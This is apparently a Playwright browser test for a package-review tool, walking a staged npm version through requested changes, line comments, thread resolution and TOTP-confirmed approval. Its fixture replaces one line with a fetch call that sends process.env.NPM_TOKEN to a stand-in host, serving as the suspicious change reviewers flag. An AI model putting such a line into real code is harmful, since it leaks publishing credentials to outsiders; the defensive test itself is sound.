"""Team review in a real Chromium against live_server and a live dev registry (issue 16): bob
requests changes, comments on a line and ticks the file viewed (it collapses on the all-files
page); carol cannot approve; alice replies and resolves; bob approves; carol's Approve becomes
available and she approves with a TOTP code; the person who staged a version cannot approve it."""

from __future__ import annotations

import re

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import Page, expect

from reviews.mirror import sync
from reviews.mirror.registry import RegistryClient
from reviews.models import Role, StagedVersion, Team
from reviews.review import analysis
from tests.browser.conftest import log_in
from tests.decide import conftest as decisions
from tests.decide.conftest import Registry, link
from tests.personas import World, member_of
from tests.support import packages
from tests.support.packages import build_tarball

traffic = decisions.traffic
registry = decisions.registry

pytestmark = pytest.mark.django_db(transaction=True)

NAME = "@acme/widget"
BEFORE = "".join(f"const line{n} = {n};\n" for n in range(1, 9))
AFTER = BEFORE.replace(
    "const line4 = 4;\n", "fetch('https://telemetry.example/?t=' + process.env.NPM_TOKEN);\n"
)


def staged_and_analysed(registry: Registry, version: str, files: dict[str, str | bytes]):
    """Stage at the registry as CI does, then sync, download and analyse as the tasks do."""
    tarball = build_tarball(NAME, version, files)
    stage_id = packages.stage(registry.url, registry.ci_token, NAME, version, tarball=tarball)
    with RegistryClient(registry.url, registry.sync_token, timeout=5) as client:
        recorded = sync.record_new_stage(client.get_stage(stage_id))
        assert recorded is not None
        sync.download_stage(recorded.pk, client)
        analysis.analyse_stage(recorded.pk, client=client)
    return StagedVersion.objects.get(pk=recorded.pk)


def person(world: World, name: str, role: Role) -> User:
    return member_of(world.acme, name, role)


def signed_in(new_page, live_server, name: str) -> Page:
    page: Page = new_page()
    log_in(page, live_server.url, name, f"{name}-password")
    return page


def test_two_people_review_and_a_third_approves(
    live_server, new_page, world: World, registry: Registry
):
    Team.objects.filter(pk=world.acme.pk).update(required_approvals=1, no_self_approval=True)
    packages.publish(
        registry.url,
        registry.ci_token,
        NAME,
        "1.0.0",
        tarball=build_tarball(NAME, "1.0.0", {"index.js": BEFORE}),
    )
    for owner in ("alice", "bob"):
        registry.live.add_owner(NAME, owner)
    stage = staged_and_analysed(registry, "1.1.0", {"index.js": AFTER})
    alice = person(world, "alice", Role.ADMIN)
    person(world, "bob", Role.REVIEWER)
    carol = person(world, "carol", Role.APPROVER)
    link(alice, registry.alice)
    link(carol, registry.bob)  # carol approves at the registry as npm user bob, a maintainer
    stage_url = f"{live_server.url}/stages/{stage.stage_id}/"

    # bob requests changes, then comments on line 4 of the staged file.
    as_bob = signed_in(new_page, live_server, "bob")
    as_bob.goto(stage_url)
    as_bob.check("#review-form input[value=request_changes]")
    as_bob.fill("#review-form textarea", "Line 4 sends the npm token out.")
    as_bob.click("#review-button")
    expect(as_bob.locator("#reviews")).to_contain_text("Line 4 sends the npm token out.")
    as_bob.click("#tree a.gr-file-link >> text=index.js")
    expect(as_bob).to_have_url(re.compile(r"/files/index\.js"))
    as_bob.click('#diff td[data-side="new"][data-line="4"] a.gr-ln-link')  # htmx loads the form
    expect(as_bob.locator("#new-comment")).to_contain_text("Comment on staged line 4")
    as_bob.fill("#comment-text", "Why does line 4 send the token out?")
    as_bob.click("#comment-button")
    thread = as_bob.locator("#diff .thread")
    expect(thread).to_contain_text("Why does line 4 send the token out?")
    expect(thread).to_contain_text("unresolved")
    as_bob.click("#viewed-button")
    expect(as_bob.locator("#viewed-form")).to_contain_text("Viewed")
    as_bob.goto(f"{stage_url}all-files/")
    expect(as_bob.locator("#viewed-summary")).to_have_text("1 of 2 changed files viewed")
    assert as_bob.locator("details.all-file", has_text="index.js").get_attribute("open") is None
    manifest = as_bob.locator("details.all-file", has_text="package.json")
    expect(manifest.locator(".gr-diff")).to_be_visible()  # loaded as it came into view

    # carol cannot approve yet, and the page says why before any click.
    as_carol = signed_in(new_page, live_server, "carol")
    as_carol.goto(stage_url)
    expect(as_carol.locator("#approve-blocked")).to_be_disabled()
    expect(as_carol.locator("#approve-why")).to_contain_text("1 more approving review")
    expect(as_carol.locator("#approve-why")).to_contain_text("changes requested by bob")
    expect(as_carol.locator("#approve-link")).to_have_count(0)

    # alice replies on the thread from the stage page's list, and resolves it.
    as_alice = signed_in(new_page, live_server, "alice")
    as_alice.goto(stage_url)
    expect(as_alice.locator("#unresolved-count")).to_have_text("1 unresolved")
    as_alice.fill("#threads .reply-form textarea", "Telemetry; it is gone in the next stage.")
    as_alice.click("#threads .reply-button")
    expect(as_alice.locator("#threads")).to_contain_text("Telemetry; it is gone")
    as_alice.click("#threads .resolve-button")
    expect(as_alice.locator("#unresolved-count")).to_have_text("0 unresolved")

    # bob approves: his verdict is replaced, the history stays.
    as_bob.goto(stage_url)
    as_bob.check("#review-form input[value=approve]")
    as_bob.click("#review-button")
    expect(as_bob.locator("#approvals")).to_contain_text("1 of 1 required (bob)")
    expect(as_bob.locator("#reviews")).to_contain_text("replaced by a later review")

    # carol's Approve is offered now; she approves with a TOTP code.
    as_carol.goto(stage_url)
    as_carol.click("#approve-link")
    # Line 4 sends the token out: a critical finding the team's policy asks her to tick as read.
    as_carol.check("input[name=acknowledge_findings]")
    as_carol.click("#decide-button")
    as_carol.fill("input[name=otp]", registry.bob.code())
    as_carol.click("#decide-button")
    as_carol.wait_for_url(stage_url)
    expect(as_carol.locator(".decided")).to_contain_text("Approved in Greenroom by carol")
    assert not registry.still_staged(stage)


def test_the_stager_cannot_approve_their_own_stage(
    live_server, new_page, world: World, registry: Registry
):
    stage = staged_and_analysed(registry, "1.0.0", {"index.js": BEFORE})
    StagedVersion.objects.filter(pk=stage.pk).update(actor="alice")  # alice staged it
    alice = person(world, "alice", Role.ADMIN)
    link(alice, registry.alice)

    page = signed_in(new_page, live_server, "alice")
    page.goto(f"{live_server.url}/stages/{stage.stage_id}/")

    expect(page.locator("#approve-blocked")).to_be_disabled()
    expect(page.locator("#approve-why")).to_contain_text("You staged this version")
    page.goto(f"{live_server.url}/stages/{stage.stage_id}/approve/")
    expect(page.locator("#decide-button")).to_be_disabled()
    assert registry.traffic.approvals() == 0
